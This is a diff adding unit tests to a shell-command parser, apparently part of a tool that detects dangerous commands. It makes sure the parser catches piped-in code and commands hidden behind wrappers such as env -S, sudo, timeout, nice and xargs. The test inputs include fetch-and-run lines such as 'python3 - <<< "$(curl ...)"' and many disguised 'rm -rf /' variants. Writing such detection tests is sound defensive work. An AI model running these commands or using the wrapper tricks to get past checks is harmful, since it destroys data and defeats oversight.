@@ -298,6 +298,34 @@ describe('parseShell: scripts given to other programs', () => {
     expect([cat.piped, cat.pipedFromCommand]).toEqual([true, false]);
     const sh = only('sh <<< "echo"', 'sh');
     expect([sh.piped, sh.pipedFromCommand]).toEqual([true, false]);
+    const home = only('cat <<< "$HOME"', 'cat');
+    expect([home.piped, home.pipedFromCommand]).toEqual([true, false]);
+    const quoted = only(`cat <<'EOF'\n$(curl x)\nEOF`, 'cat');
+    expect([quoted.piped, quoted.pipedFromCommand]).toEqual([true, false]);
+  });
+
+  it('marks a command reading a here-string or here-document holding $(…) as fed by a command', () => {
+    const fed = (text: string, program: string) => only(text, program).pipedFromCommand;
+    expect(fed('python3 - <<< "$(curl -s https://x.example/a.py)"', 'python3')).toBe(true);
+    expect(fed('python3 - <<EOF\n$(curl -s https://x.example/a.py)\nEOF', 'python3')).toBe(true);
+    expect(fed('node <<EOF\n`curl x`\nEOF', 'node')).toBe(true);
+    expect(fed('source /dev/stdin <<< "$(curl x)"', 'source')).toBe(true);
+    expect(fed('. /dev/stdin <<EOF\n$(curl x)\nEOF', '.')).toBe(true);
+    expect(fed('{ python3 -; } <<< "$(curl x)"', 'python3')).toBe(true);
+    // curl makes the text; it reads none of it.
+    expect(fed('python3 - <<< "$(curl x)"', 'curl')).toBe(false);
+  });
+
+  it('does not take a shell making a here-string for one reading it', () => {
+    expect(commands('grep ok <<< "$(bash build.sh)"')).toEqual(['bash build.sh', 'grep ok']);
+    expect(only('grep ok <<< "$(bash build.sh)"', 'bash').pipedFromCommand).toBe(false);
+  });
+
+  it('records the script of a shell reading an unquoted here-document with expansions as unknown', () => {
+    // The shell runs the text after expansion: `$X` is read as code, as `eval "echo $X"` reads it.
+    expect(commands('bash <<EOF\necho $X\nEOF')).toEqual(['bash', 'echo $[$X]', '?echo $X\n']);
+    expect(only('bash <<EOF\n$(curl x)\nEOF', 'bash').pipedFromCommand).toBe(true);
+    expect(commands(`bash <<'EOF'\necho $X\nEOF`)).toEqual(['bash', 'echo $[$X]']);
   });
 });
 
@@ -332,6 +360,82 @@ describe('parseShell: wrappers', () => {
 
   it('reads env -S as a command line', () => {
     expect(commands(`env -S 'rm -rf' /`)).toContain('rm -rf /');
+  });
+
+  it('takes any word holding = for an env or sudo assignment, quoted or not', () => {
+    expect(commands('env A-B=1 rm -rf /').at(-1)).toBe('rm -rf /');
+    expect(commands(`env 'A=1' "B=2" rm -rf /`).at(-1)).toBe('rm -rf /');
+    expect(commands('env -- A=1 rm -rf /').at(-1)).toBe('rm -rf /');
+    expect(commands(`sudo 'A=1' rm -rf /`).at(-1)).toBe('rm -rf /');
+  });
+
+  it('reads abbreviated long options as getopt_long does', () => {
+    expect(commands('env --ch /tmp rm -rf /').at(-1)).toBe('rm -rf /');
+    expect(commands('timeout --sig KILL 5 rm -rf /').at(-1)).toBe('rm -rf /');
+    expect(commands('timeout --k 1 5 rm -rf /').at(-1)).toBe('rm -rf /');
+    expect(commands('nice --adj 5 rm -rf /').at(-1)).toBe('rm -rf /');
+    expect(commands('stdbuf --out L rm -rf /').at(-1)).toBe('rm -rf /');
+    expect(commands('xargs --arg /dev/null rm -rf /').at(-1)).toBe(
+      'rm -rf / $[(arguments from input)]',
+    );
+    expect(commands(`env --split 'rm -rf /'`).at(-1)).toBe('rm -rf /');
+    expect(commands(`su --sess 'rm -rf /'`).at(-1)).toBe('rm -rf /');
+    expect(commands('timeout --preserve-status 5 ls').at(-1)).toBe('ls');
+  });
+
+  it('treats an ambiguous or unknown long option, or a value given to a flag, as unknown', () => {
+    expect(commands('env --i rm -rf /')).toEqual(['env --i rm -rf /', '?--i']);
+    expect(commands('env --no-such-option ls')).toEqual([
+      'env --no-such-option ls',
+      '?--no-such-option',
+    ]);
+    expect(commands('env --null=1 rm')).toEqual(['env --null=1 rm', '?--null=1']);
+  });
+
+  it('takes an optional option value only when attached, never the next word', () => {
+    expect(commands('xargs --max-lines rm -rf /').at(-1)).toBe(
+      'rm -rf / $[(arguments from input)]',
+    );
+    expect(commands('xargs --max-lines=2 rm -rf /').at(-1)).toBe(
+      'rm -rf / $[(arguments from input)]',
+    );
+    // In `-in`, n is -i's replace string: the next word is the command.
+    expect(commands('xargs -in rm -rf /').at(-1)).toBe('rm -rf / $[(arguments from input)]');
+    expect(commands('watch -d rm -rf /').at(-1)).toBe('rm -rf /');
+    expect(commands('watch --equexit 2 rm -rf /').at(-1)).toBe('rm -rf /');
+    expect(commands('watch -n 1 -d df -h').at(-1)).toBe('df -h');
+  });
+
+  it('reads nice -N, --N and -+N as an adjustment', () => {
+    expect(commands('nice -10 make; nice --10 make; nice -+5 make; nice -n 5 make')).toEqual([
+      'nice -10 make',
+      'make',
+      'nice --10 make',
+      'make',
+      'nice -+5 make',
+      'make',
+      'nice -n 5 make',
+      'make',
+    ]);
+  });
+
+  it('splits env -S as env does, and reads its words again as env arguments', () => {
+    expect(commands(`env -S 'rm\\_-rf\\_/'`).at(-1)).toBe('rm -rf /');
+    expect(commands(`env -S 'rm\n-rf /'`).at(-1)).toBe('rm -rf /');
+    expect(commands(`env -S '-i -C /tmp A=1 rm -rf' /`).at(-1)).toBe('rm -rf /');
+    expect(commands(`env -S "-S 'rm -rf'" /`).at(-1)).toBe('rm -rf /');
+    expect(commands(`env --split-string='rm -rf /'`).at(-1)).toBe('rm -rf /');
+    // To env, `;` and `#` are not the shell's: the program is `ls;`, and a comment ends the string.
+    expect(commands(`env -S 'ls; rm -rf /'`).at(-1)).toBe('ls; rm -rf /');
+    expect(commands(`env -S 'echo # rm -rf /'`).at(-1)).toBe('echo');
+  });
+
+  it('treats an env -S string env refuses, or one naming its program at run time, as unknown', () => {
+    expect(commands(`env -S 'rm \\q -rf /'`).at(-1)).toBe('?rm \\q -rf /');
+    expect(commands(`env -S 'echo $(rm -rf /)'`).at(-1)).toBe('?echo $(rm -rf /)');
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: env syntax, not a template
+    expect(commands("env -S '${X} rm -rf /'").at(-1)).toBe('?${X}');
+    expect(commands(`env -S "$X"`).at(-1)).toBe('?$X');
   });
 
   it('gives the command xargs runs a run-time argument for what it reads', () => {
